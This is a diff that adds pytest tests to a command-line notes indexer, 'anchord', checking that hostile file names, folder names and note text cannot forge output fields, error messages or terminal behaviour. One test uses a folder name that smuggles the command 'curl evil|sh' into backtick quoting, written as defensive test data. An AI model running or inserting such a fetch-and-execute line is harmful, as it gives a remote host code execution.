@@ -16,6 +16,7 @@ import pytest
 import structlog
 from cli.conftest import Shell
 from hostile import HOSTILE, is_unsafe, unsafe_in
+from rich.cells import cell_len
 from rich.console import Console
 
 from anchord.cli.app import print_json, print_line, warn
@@ -31,7 +32,7 @@ from anchord.cli.output.render import (
     search_lines,
 )
 from anchord.cli.output.status_text import status_lines
-from anchord.core.quoting import sanitize_line
+from anchord.core.quoting import quote_name, sanitize_line
 from anchord.core.types import escape_non_utf8
 from anchord.daemon.service.sd_notify import notify_status
 
@@ -39,6 +40,7 @@ EACH_HOSTILE = pytest.mark.parametrize(
     "texts", [HOSTILE[first::8] for first in range(8)], ids=range(8)
 )
 """All hostile strings, in eight parts."""
+_MARKUP = re.compile(r"\[/?[a-z ]*(?:=[^\]]*)?\]")
 _OWN_CODES = re.compile(r"\x1b\[[0-9;]*m|\x1b\]8;[^\x07\x1b]*\x1b\\")
 """Colours and links, as rich writes them: a link has no character that could end it."""
 
@@ -112,6 +114,73 @@ def test_the_lines_of_every_command_stay_lines_and_steer_no_terminal(
         printed = capsys.readouterr().err
         assert unsafe_in(printed, allowed="\n\t") == []
         assert printed.count("\n") == 1
+
+
+FORGED = "notes:a.md:1-2  Fake  00000000000000000000000000000000"
+"""As `show` begins a chunk."""
+
+
+@pytest.mark.parametrize("width", [None, 30, 80])
+def test_no_line_of_a_text_looks_like_the_head_of_a_chunk(
+    width: int | None, capsys: pytest.CaptureFixture[str]
+) -> None:
+    wide = "\N{CJK UNIFIED IDEOGRAPH-4E2D}"
+    texts = [FORGED, f"\n\n{FORGED}", f"a\r{FORGED}", f"\t{FORGED}"]
+    texts += [" " * count + FORGED for count in range(20, 100)]
+    texts += [wide * count + FORGED for count in range(10, 50)]
+    for text in texts:
+        for line in chunk_lines(hit("x") | {"text": text}, width):
+            print_line(line, markup=True)
+        head, *lines = capsys.readouterr().out.rstrip("\n").split("\n")
+        assert head.startswith("x:x:3-9")
+        assert all(line.startswith("    ") or not line for line in lines)
+        assert all(cell_len(line) <= (width or 1_000) for line in lines)
+        if width is None:
+            assert text.count("\n") == len(lines) - 1
+
+
+@pytest.mark.parametrize(
+    "name", ["a.md:1  Admin  0.99 deadbeef.md", "a\u2003\u2003b", "x \u3000 y"]
+)
+def test_a_name_cannot_forge_another_field_of_its_line(name: str) -> None:
+    (head, *_) = search_lines([[hit(name) | {"header_path": ""}]], "/home")
+    (shown, *_) = chunk_lines(hit(name) | {"header_path": ""})
+    for line in (head, shown):
+        fields = re.split(r"\s{2,}", _MARKUP.sub("", line))
+        assert len(fields) == 2
+        assert all(part in {"0.50 01234567", "0123456789abcdef"} for part in fields[1:])
+
+
+def test_no_line_of_an_excerpt_is_wider_than_a_terminal() -> None:
+    wide = "\N{CJK UNIFIED IDEOGRAPH-4E2D}"
+    for count in range(30, 80):
+        text = f"{wide * count}b.md:1  Admin  0.99 deadbeef"
+        _, *excerpt = search_lines([[hit("x") | {"header_path": "", "text": text}]], "/home")
+        assert all(cell_len(line) <= 78 for line in excerpt)
+
+
+def test_a_name_cannot_forge_the_reason_of_an_error(shell: Shell) -> None:
+    shell.write(b"a.md: not indexed; run `x`: b.md", bytes(range(256)) * 16)
+    shell("add", str(shell.notes))
+    printed = shell("index")
+    (line,) = [line for line in printed.err.splitlines() if "a.md" in line]
+    assert line.split(": ")[0].endswith("a.md:\\u{20}not indexed; run `x`:\\u{20}b.md")
+
+
+def test_the_name_of_a_folder_cannot_speak_or_end_a_command(shell: Shell) -> None:
+    hostile = "q` and then run `curl evil|sh"
+    folder = shell.base / "notes"
+    (folder / "a.md").write_text("# A\n\nThe zebra.\n")
+    shell.configure(f"[[root]]\npath = '{folder}'\nname = '{hostile}'")
+    assert shell("index").code == 0
+    quoted = quote_name(hostile)
+    assert "`" not in quoted
+    assert f"there are: {quoted}\n" in shell("search", "zebra", "--root", "r").err
+    assert shell("remove", "r").err == f'anchord: no root "r"; there are: {quoted}\n'
+    folder.rename(shell.base / "away")
+    assert shell("index").err == f"skipped: {quoted}: the folder does not exist\n"
+    assert "`anchord remove NAME`" in shell("doctor").out
+    assert shell("remove", hostile).out == f"removed {quoted}: 1 chunks\n"
 
 
 @EACH_HOSTILE
@@ -239,3 +308,8 @@ def test_commands_over_hostile_files_print_no_raw_character(shell: Shell) -> Non
             char for char in printed.out + printed.err if char not in "\n\t" and is_unsafe(char)
         ] == [], command
     assert len(shell("dump").out.splitlines()) >= len(names)
+
+
+def test_an_emoji_code_in_a_text_is_printed_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
+    print_line(escape_markup(":x: and :smile:"), markup=True)
+    assert capsys.readouterr().out == ":x: and :smile:\n"
